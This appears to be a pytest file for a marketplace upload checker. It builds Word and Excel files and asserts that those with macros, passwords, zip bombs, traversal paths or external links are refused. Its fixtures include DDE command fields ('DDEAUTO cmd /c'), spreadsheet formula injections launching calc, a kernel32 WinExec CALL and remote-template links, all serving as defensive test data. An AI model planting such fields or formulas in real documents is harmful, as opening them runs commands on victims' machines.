"""Office documents: plain ones are taken, those with macros, passwords or strange parts are refused."""

import struct

import pytest

from marketplace.uploads import Reason
from tests.uploads.checking import kind, reason
from tests.uploads.specimens import RELATIONS, archive, docx, many_entries, package, xlsx


def marked(document: bytes, *, flags: int = 0, method: int = 8) -> bytes:
    """Change flags and way of packing of every entry in the directory of an archive."""
    changed = bytearray(document)
    at = document.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<HH", changed, at + 8, flags, method)
        at = document.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def changed_in_the_middle(document: bytes) -> bytes:
    """Change one byte of a packed part."""
    at = document.index(b"PK\x01\x02") - 8
    return document[:at] + bytes([document[at] ^ 0xFF]) + document[at + 1 :]


MACRO_TYPE = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
MACROS = {
    "a project": docx(("word/vbaProject.bin", b"macro")),
    "a project of another name": docx(("word/other.bin", b""), types=MACRO_TYPE),
    "a workbook with macros inside": docx(("word/embeddings/inner.xlsm", b"")),
    "controls": docx(("word/activeX/activeX1.bin", b"")),
    "sheets of macros": docx(("xl/macrosheets/sheet1.xml", b"")),
    "a type": package(
        "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", b"<a/>"
    ),
}
BROKEN = {
    "a part that stands twice": docx(("word/Document.xml", b"<twice/>")),
    "an unusual way of packing": marked(docx(), method=12),
    "a wrong number of parts": docx().replace(b"PK\5\6\0\0\0\0\3\0\3\0", b"PK\5\6\0\0\0\0\2\0\2\0"),
    "no types": archive([("word/document.xml", b"<a/>")]),
    "types with a document type": archive(
        [("[Content_Types].xml", b"<!DOCTYPE a><a/>"), ("_rels/.rels", b"")]
    ),
    "types without markup": archive([("[Content_Types].xml", b"no markup"), ("_rels/.rels", b"")]),
    "another type": package("word/document.xml", "text/html", b"<a/>"),
    "nothing": archive([]),
    "a changed byte": changed_in_the_middle(
        docx(("word/media/image1.bmp", bytes(range(256)) * 40))
    ),
    "something behind it": docx() + b"<script>",
}


RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORDS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CELLS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def link(kind: str, target: str, mode: str = "External") -> tuple[str, bytes]:
    """Write the relationships of the settings of a text: one."""
    text = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{RELATIONSHIPS}/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return "word/_rels/settings.xml.rels", text.encode()


def field(*runs: str) -> tuple[str, bytes]:
    """Write a header with fields: < and > begin and end one, | begins what it shows, the rest is what it says."""
    marks = {"<": "begin", "|": "separate", ">": "end"}
    elements = [
        f'<w:fldChar w:fldCharType="{marks[run]}"/>'
        if run in marks
        else f"<w:instrText>{run}</w:instrText>"
        for run in runs
    ]
    text = "".join(f"<w:r>{element}</w:r>" for element in elements)
    return "word/header1.xml", f'<w:hdr xmlns:w="{WORDS}"><w:p>{text}</w:p></w:hdr>'.encode()


def simple_field(instruction: str, coding: str = "utf-8") -> tuple[str, bytes]:
    text = f'<w:ftr xmlns:w="{WORDS}"><w:fldSimple w:instr="{instruction}"/></w:ftr>'
    return "word/footer1.xml", text.encode(coding)


def cell(formula: str, element: str = "f") -> tuple[str, bytes]:
    """Write a sheet of one formula."""
    text = f'<worksheet xmlns="{CELLS}"><c><{element}>{formula}</{element}></c></worksheet>'
    return "xl/worksheets/sheet2.xml", text.encode()


BIN_IS_A_BOOK = '<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
PRINTER = "xl/printerSettings/printerSettings1.bin"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
LINKED = {
    "a template of the web": docx(link("attachedTemplate", "https://a.example/t.dotm")),
    "a template of another machine": docx(
        link("attachedTemplate", "file:///\\\\host\\share\\t.dotm")
    ),
    "a template of a share": docx(link("attachedTemplate", "//host/share/t.dotx")),
    "a frame": docx(link("frame", "http://a.example/")),
    "a picture of another machine": docx(link("image", "file://host/share/a.png")),
    "a field that asks a program": docx(field("<", " DDEAUTO cmd /c ", ">")),
    "a field in pieces": docx(field("<", "D", "DE", " a b", "|", ">")),
    "a field that does not end": docx(field("<", "dde a b")),
    "a field in the result of another one": docx(
        field("<", "IF 1=1", "|", "<", "DDE a b", ">", ">")
    ),
    "a field in what another one says": docx(field("<", "IF ", "<", "DDE a b", ">", ">")),
    "a text of the web in a field": docx(
        simple_field("INCLUDETEXT &quot;http://a.example/t&quot;")
    ),
    "a picture of another machine in a field": docx(
        field("<", r'INCLUDEPICTURE "\\\\host\\share\\a.png" \d', ">")
    ),
    "an address list of another machine": docx(link("mailMergeSource", "file://host/share/a.mdb")),
    "a field whose name is made": docx(field("<", "<", "QUOTE 68 68 69", ">", " a b", ">")),
    "a field that asks for an object": docx(field("<", "LINK Excel.Sheet.12 a b", ">")),
    "a simple field": docx(simple_field("DDE a b")),
    "a simple field in letters of two bytes": docx(simple_field("DDE a b", "utf-16")),
    "a simple field in disguise": docx(simple_field("&#68;DE a b")),
}
LINKED_BOOKS = {
    "a database that is asked": xlsx(
        (
            "xl/connections.xml",
            f'<connections xmlns="{CELLS}"><connection refreshOnLoad="1"/></connections>'.encode(),
        )
    ),
    "a formula": xlsx(cell("cmd|' /C calc'!A0")),
    "a formula in disguise": xlsx(cell("cmd&#124;' /C calc'!A0")),
    "a formula that is quoted": xlsx(cell("<![CDATA[cmd|' /C calc'!A0]]>")),
    "a name": xlsx(cell("cmd|'/C calc'!A0", "definedName")),
    "a function of the web": xlsx(cell('_xlfn.WEBSERVICE("https://a.example/?q="&amp;A1)')),
    "a picture of the web": xlsx(cell('1+_xlfn.IMAGE ("https://a.example/a.png")')),
    "a function of a program": xlsx(cell('rtd("a.b",,"c")', "definedName")),
    "a function of a library": xlsx(cell('CALL("kernel32","WinExec","JC",A1)')),
    "a link to an object": xlsx(
        (
            "xl/externalLinks/externalLink1.xml",
            f'<externalLink xmlns="{CELLS}"><oleLink/></externalLink>'.encode(),
        )
    ),
}
OBJECTS = {
    "an object": docx(("word/embeddings/oleObject1.bin", OLE)),
    "an object called a picture": docx(("word/media/image1.png", OLE)),
    "an object somewhere else": docx(link("oleObject", "http://a.example/a.html!")),
    "a program called a picture": docx(("word/media/image1.png", b"MZ" + bytes(90) + b"PE\0\0")),
    "a script": docx(("word/media/a.js", b"alert(1)")),
    "a type of scripts": docx(
        ("word/media/a.dat", b"alert(1)"),
        types='<Default Extension="dat" ContentType="text/javascript"/>',
    ),
    "a control": docx(link("control", "a.xml", "Internal"), ("word/a.xml", b"<a/>")),
    "a text of another kind": docx(
        ("word/a.dat", b"{\\rtf1}"),
        types='<Default Extension="dat" ContentType="application/rtf"/>',
    ),
    "documents in documents": docx(
        ("word/a.docx", docx(("word/b.docx", docx(("word/c.docx", docx()))))),
    ),
}
ORDINARY = {
    "a text of the sender's own disk": docx(field("<", r'INCLUDETEXT "C:\\texts\\a.docx"', ">")),
    "a picture of the web in a field": docx(
        field("<", ' INCLUDEPICTURE "https://a.example/a.png"', ">")
    ),
    "a template of the sender's disk": docx(
        link("attachedTemplate", "file:///C:\\Users\\ada\\Templates\\Letter.dotx")
    ),
    "a link to a page": docx(link("hyperlink", "https://a.example/DDE")),
    "a picture of the web": docx(link("image", "https://a.example/a.png")),
    "a page number": docx(field("<", " PAGE ", "|", ">")),
    "a table of contents": docx(field("<", "TOC ", "|", "<", "HYPERLINK a", "|", ">", ">")),
    "a sum of fields": docx(field("<", "=", "<", "PAGE", ">", "-1", ">")),
    "words about such fields": docx(("word/header1.xml", b"<a>DDEAUTO, instrText</a>")),
    "a drawing of an old kind": docx(
        ("word/media/image1.eps", b"%!PS-Adobe-3.0 EPSF-3.0"),
        types='<Default Extension="eps" ContentType="application/postscript"/>',
    ),
    "macros that are not there": docx(
        link("vbaProject", "vbaProject.bin", "Internal"), types=MACRO_TYPE
    ),
}
ORDINARY_BOOKS = {
    "a table that is counted anew, and a database that waits to be asked": xlsx(
        (
            "xl/pivotCache/pivotCacheDefinition1.xml",
            f'<pivotCacheDefinition xmlns="{CELLS}" refreshOnLoad="1"/>'.encode(),
        ),
        (
            "xl/connections.xml",
            f'<connections xmlns="{CELLS}"><connection/></connections>'.encode(),
        ),
    ),
    "a type of macros for settings of a printer": xlsx(
        (PRINTER, b"printer"),
        (
            "xl/worksheets/_rels/sheet1.xml.rels",
            link("printerSettings", "../printerSettings/printerSettings1.bin", "Internal")[1],
        ),
        types=BIN_IS_A_BOOK,
    ),
    "a type of macros for nothing": xlsx(types=BIN_IS_A_BOOK),
    "a bar in quotes": xlsx(cell("A1 &amp; \"a|b\" &amp; 'a|b'!A1")),
    "a link to another book": xlsx(
        (
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            link("externalLinkPath", "Prices.xlsx")[1],
        )
    ),
    "blank lines behind it": xlsx() + b"\r\n\0",
}


@pytest.mark.parametrize("document", LINKED.values(), ids=LINKED.keys())
def test_a_text_that_fetches_something_when_it_is_opened_is_refused(document: bytes) -> None:
    """Field 4: refused like its likes."""
    assert reason("specification.docx", document) == Reason.LINKED


@pytest.mark.parametrize("document", LINKED_BOOKS.values(), ids=LINKED_BOOKS.keys())
def test_a_workbook_that_asks_other_programs_is_refused(document: bytes) -> None:
    assert reason("samples.xlsx", document) == Reason.LINKED


@pytest.mark.parametrize("document", OBJECTS.values(), ids=OBJECTS.keys())
def test_a_document_with_objects_of_other_programs_is_refused(document: bytes) -> None:
    assert reason("specification.docx", document) == Reason.OBJECTS


@pytest.mark.parametrize("document", ORDINARY.values(), ids=ORDINARY.keys())
def test_what_ordinary_texts_have_is_taken(document: bytes) -> None:
    """Field 5: only what is there counts, not what is declared."""
    assert kind("specification.docx", document) == "docx"


@pytest.mark.parametrize("document", ORDINARY_BOOKS.values(), ids=ORDINARY_BOOKS.keys())
def test_what_ordinary_workbooks_have_is_taken(document: bytes) -> None:
    assert kind("samples.xlsx", document) == "xlsx"


def test_macros_in_a_workbook_inside_are_refused() -> None:
    inner = xlsx(("xl/vbaProject.bin", b"macro"))

    assert reason("a.docx", docx(("word/embeddings/Book1.xlsx", inner))) == Reason.MACROS


def test_a_document_may_have_pictures_and_charts() -> None:
    parts = [
        ("word/media/image1.png", b"picture"),
        ("word/embeddings/Microsoft_Excel_Sheet1.xlsx", xlsx()),
    ]

    assert kind("specification.docx", docx(*parts)) == "docx"


@pytest.mark.parametrize("document", MACROS.values(), ids=MACROS.keys())
def test_a_document_with_macros_is_refused(document: bytes) -> None:
    assert reason("specification.docx", document) == Reason.MACROS


@pytest.mark.parametrize(
    "name", ["../evil.xml", "/etc/evil.xml", "word/../../evil.xml", "C:/evil.xml", "..\\evil.xml"]
)
def test_a_document_with_parts_that_lead_elsewhere_is_refused(name: str) -> None:
    assert reason("samples.xlsx", xlsx((name, b""))) == Reason.CONTENT


@pytest.mark.parametrize("document", BROKEN.values(), ids=BROKEN.keys())
def test_an_archive_that_is_no_whole_document_is_refused(document: bytes) -> None:
    assert reason("specification.docx", document) == Reason.CONTENT


def test_a_document_with_a_password_is_refused() -> None:
    wrapper = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le")
    )

    assert reason("samples.xlsx", wrapper) == Reason.ENCRYPTED
    assert reason("specification.docx", marked(docx(), flags=0x1)) == Reason.ENCRYPTED


def test_parts_that_share_their_bytes_are_refused() -> None:
    document = bytearray(docx(("word/media/image1.bmp", bytes(1_000))))
    struct.pack_into("<L", document, document.index(b"PK\x01\x02") + 20, len(document))

    assert reason("specification.docx", bytes(document)) == Reason.BOMB


def test_a_document_that_hides_how_many_parts_it_has_is_refused() -> None:
    document = bytearray(many_entries(2_500))
    struct.pack_into("<HH", document, document.rindex(b"PK\x05\x06") + 8, 3, 3)

    assert reason("specification.docx", bytes(document)) == Reason.BOMB


def test_a_crowd_of_relationships_is_refused() -> None:
    """Each would be read element by element, a second for each two megabytes."""
    crowd = (
        f'<Relationships xmlns="{RELATIONS}">'.encode() + b"<a/>" * 500_000 + b"</Relationships>"
    )
    parts = [(f"word/_rels/{number}.xml.rels", crowd) for number in range(5)]

    assert reason("specification.docx", docx(*parts)) == Reason.BOMB


def test_a_crowd_of_elements_is_refused() -> None:
    field = b'<w:fldSimple w:instr="PAGE"/>'
    crowd = f'<w:hdr xmlns:w="{WORDS}">'.encode() + field + b"<a/>" * 1_500_001 + b"</w:hdr>"

    assert reason("specification.docx", docx(("word/header1.xml", crowd))) == Reason.BOMB
